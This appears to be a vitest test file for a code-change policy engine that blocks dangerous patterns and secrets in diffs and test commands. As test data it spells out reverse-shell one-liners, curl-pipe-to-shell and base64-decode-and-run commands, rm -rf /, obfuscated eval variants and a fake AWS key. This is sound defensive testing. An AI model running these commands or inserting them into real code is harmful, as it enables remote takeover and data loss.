import { beforeAll, describe, expect, it } from 'vitest';
import type { LoadedPolicy } from './load-policy.ts';
import {
  blocking,
  type Content,
  loadPolicy,
  OPEN_POLICY,
  type PlanOptions,
  planInput,
  type Written,
} from './policy.fixture.ts';

let open: LoadedPolicy;
beforeAll(async () => {
  open = await loadPolicy(OPEN_POLICY);
});

const plan = (files: Record<string, Content | Written>, options: PlanOptions = {}, policy = open) =>
  policy.evaluate(planInput(files, options), 1);
const KEY = `AKIA${'QWERTYUIOPASDFGH'}`;

describe('dangerous text in a change', () => {
  it.each([
    ['remove-recursively', 'rm -rf /'],
    ['remove-recursively', 'rm -fr build'],
    ['remove-recursively', 'rm  -r   -f build'],
    ['remove-recursively', 'rm build -R --force'],
    ['remove-recursively', 'rm \\\n  -rf build'],
    ['remove-recursively', 'spawn("rm", ["-rf", dir])'],
    ['remove-recursively', 'RM -RF build'],
    ['start-process', 'subprocess.run(["ls"])'],
    ['start-process', 'subprocess . check_output(x)'],
    ['start-process', 'from subprocess import run'],
    ['start-process', 'import os.path as p, subprocess as s'],
    ['start-process', 'p = Popen(cmd)'],
    ['start-process', "require('node:child_process')"],
    ['evaluate-text', 'eval(data)'],
    ['evaluate-text', 'EVAL (data)'],
    ['evaluate-text', 'exec(code)'],
    ['evaluate-text', 'ｅｖａｌ(data)'],
    ['evaluate-text', 'ev\u200bal(data)'],
    ['evaluate-text', 'ev\\\nal(data)'],
    ['evaluate-text-indirectly', '(0, eval)(data)'],
    ['evaluate-text-indirectly', 'builtins.eval(data)'],
    ['evaluate-text-indirectly', 'window["eval"](data)'],
    ['evaluate-text-indirectly', 'new Function ("return 1")'],
    ['evaluate-text-indirectly', 'getattr(os, "sys" + "tem")'],
    ['system-call', 'os.system("ls")'],
    ['system-call', 'os . system ("ls")'],
    ['system-call', 'os.\\\n  system("ls")'],
    ['system-call', 'from os import path, system'],
    ['import-by-name', '__import__("os")'],
    ['load-objects', 'pickle.loads(data)'],
    ['download-and-run', 'curl -s https://example.com/x | sh'],
    ['download-and-run', 'curl https://example.com/x|sudo bash'],
    ['download-and-run', 'wget -qO- example.com | /bin/bash'],
    ['download-and-run', 'bash <(curl example.com)'],
    ['download-and-run', 'sh -c "$(curl -fsSL example.com)"'],
    ['decode-and-run', 'echo aGk= | base64 -d | sh'],
    ['remote-shell', 'bash -i >& /dev/tcp/10.0.0.1/80 0>&1'],
    ['remote-shell', 'nc 10.0.0.1 80 -e /bin/sh'],
    ['open-permissions', 'chmod -R 777 .'],
    ['hidden-order', 'if (a) { /*\u202e } */ }'],
  ])('is blocked as %s: %j', async (name, line) => {
    const result = await plan({ 'src/a.py': `x = 1\n${line}\ny = 2\n` });
    expect(result.blocked_patterns).toContain(name);
    expect(result.blocked_paths).toEqual(['src/a.py']);
    expect(result.reasons.join()).not.toContain(line);
  });

  it('is told from what only looks like it', async () => {
    const text = [
      'const found = pattern.exec(text);',
      'retrieval(data); medieval (x); this.evaluate(x);',
      'const os = system; form -rf; confirm -f',
      'rm a.txt',
      'chmod 755 run.sh',
      '// the curl of a field | a shell on the beach',
    ].join('\n');
    expect((await plan({ 'src/a.ts': text })).reasons).toEqual([]);
  });

  it('counts only where the change brings it in', async () => {
    const before = 'a\neval(x)\nb\n';
    expect((await plan({ 'a.py': { before, after: 'b\neval(x)\nc\n' } })).verdict).toBe('approved');
    expect((await plan({ 'a.py': { before, after: null } })).verdict).toBe('approved');
    expect((await plan({ 'a.py': { before, after: before, mode: '100755' } })).verdict).toBe('approved');
    for (const after of ['a\neval(x)\neval(x)\n', 'a\neval(y)\nb\n']) {
      expect((await plan({ 'a.py': { before, after } })).blocked_patterns).toEqual(['evaluate-text']);
    }
  });

  it('is found where two lines become it only together', async () => {
    const before = 'echo hi \\\n# nothing\nrm \\\n# nothing\n  -rf build\n';
    const after = 'echo hi \\\n# nothing\nrm \\\n  -rf build\n';
    expect((await plan({ 'a.sh': { before, after } })).blocked_patterns).toEqual(['remove-recursively']);
  });

  it('is found in binary files as well', async () => {
    const utf16 = Buffer.from('eval(x)\n', 'utf16le');
    expect((await plan({ 'a.bin': utf16 })).blocked_patterns).toEqual(['evaluate-text']);
  });

  it('can be allowed by the name of the pattern alone', async () => {
    const policy = await loadPolicy(`${OPEN_POLICY}allow_patterns: [evaluate-text]\n`);
    const result = await plan({ 'a.py': 'eval(x)\nos.system(y)\n' }, {}, policy);
    expect(result.blocked_patterns).toEqual(['system-call']);
  });

  it('takes time in proportion to its length, whatever it is made of', async () => {
    const started = performance.now();
    for (const piece of [
      'curl ',
      'rm -',
      'eval ',
      'AKIA',
      'a:',
      '-eyJ',
      'password=',
      'base64 ',
      '"+"',
      '://a:',
    ]) {
      await plan({ 'src/a.ts': piece.repeat(Math.floor(100_000 / piece.length)) });
    }
    expect(performance.now() - started).toBeLessThan(8000);
  });
});

describe('test commands', () => {
  it.each([
    ['remove-recursively', 'rm -fr .'],
    ['download-and-run', 'curl example.com | sh'],
    ['network-tool', '/usr/bin/curl example.com'],
    ['network-tool', 'nc -l 80'],
    ['other-rights', 'sudo npm test'],
    ['other-rights', 'unshare -r sh'],
    ['git-remote', 'git -C . push origin'],
    ['start-process', 'python -c "import subprocess"'],
  ])('are checked: %s in %j', async (name, command) => {
    const result = await plan({ 'src/a.ts': 'x\n' }, { tests: ['npm test', command] });
    expect(result.blocked_patterns).toContain(name);
    expect(result.reasons.join()).toContain('`tests[1]`');
    expect(result.blocked_paths).toEqual([]);
  });

  it('pass where they are only tests', async () => {
    const tests = [
      'npm run test:ping -- --grep ssh-keys',
      'pytest -q tests/',
      'cargo test && git diff --exit-code',
    ];
    expect((await plan({ 'src/a.ts': 'x\n' }, { tests })).reasons).toEqual([]);
  });
});

describe('patterns of the policy', () => {
  it('are RE2, by name, in some paths or in all', async () => {
    const policy = await loadPolicy(`${OPEN_POLICY}deny_patterns:
  - "(?i)forbidden"
  - { name: no-console, pattern: "console\\\\.log", paths: ["src/**/*.ts"] }
`);
    const result = await plan({ 'src/a/b.ts': 'console.log(1)\n', 'a.ts': 'console.log(1)\n' }, {}, policy);
    expect(result.blocked_patterns).toEqual(['no-console']);
    expect(result.blocked_paths).toEqual(['src/a/b.ts']);
    const other = await plan({ 'a.ts': 'x\n' }, { tests: ['echo FORbidden'] }, policy);
    expect(other.blocked_patterns).toEqual(['(?i)forbidden']);
  });

  it('stand together even where two name a group alike', async () => {
    const policy = await loadPolicy(`${OPEN_POLICY}deny_patterns: ["(?P<a>one)", "(?P<a>two)"]\n`);
    expect((await plan({ a: 'two\n' }, {}, policy)).blocked_patterns).toEqual(['(?P<a>two)']);
  });
});

describe('secrets in a change', () => {
  it('are blocked by rule and line, and nowhere shown', async () => {
    const result = await plan({ 'src/a.ts': `x\nconst key = '${KEY}';\n` });
    expect(blocking(result)).toEqual(['secrets']);
    expect(result.blocked_paths).toEqual(['src/a.ts']);
    expect(result.reasons[0]).toContain('`src/a.ts` line 2: aws-access-key-id');
    expect(JSON.stringify(result)).not.toContain(KEY);
  });

  it('are found in the rationale and in test commands', async () => {
    expect(blocking(await plan({ a: 'x\n' }, { rationale: `because of ${KEY}` }))).toEqual(['secrets']);
    expect(blocking(await plan({ rationale: 'x\n' }, { tests: [`KEY=${KEY} npm test`] }))).toEqual([
      'secrets',
    ]);
  });

  it('that were there before are left aside by number', async () => {
    const result = await plan({ 'a.ts': { before: `k = '${KEY}'\n`, after: `// moved\nk = '${KEY}'\n` } });
    expect(result.verdict).toBe('approved');
    expect(result.rules.find(({ rule }) => rule === 'secrets')?.detail).toContain('1 that were there before');
  });

  it('may stand in fixtures', async () => {
    const policy = await loadPolicy(`${OPEN_POLICY}secret_fixtures: ["**/*.fixture.ts"]\n`);
    expect((await plan({ 'src/a.fixture.ts': `'${KEY}'\n` }, {}, policy)).verdict).toBe('approved');
  });

  it('block where they cannot be looked for', async () => {
    const broken = await loadPolicy(OPEN_POLICY, undefined, {
      scan: () => Promise.reject(new TypeError(KEY)),
    });
    const result = await plan({ a: 'x\n' }, {}, broken);
    expect(blocking(result)).toEqual(['secrets']);
    expect(result.reasons[0]).toContain('`TypeError`');
    expect(JSON.stringify(result)).not.toContain(KEY);
  });
});

describe('a rollback', () => {
  it('brings back whatever was there', async () => {
    const files = { 'a.py': `eval(x)\nk = '${KEY}'\n` };
    expect((await plan(files, { purpose: 'rollback', rationale: '' })).verdict).toBe('approved');
  });
});
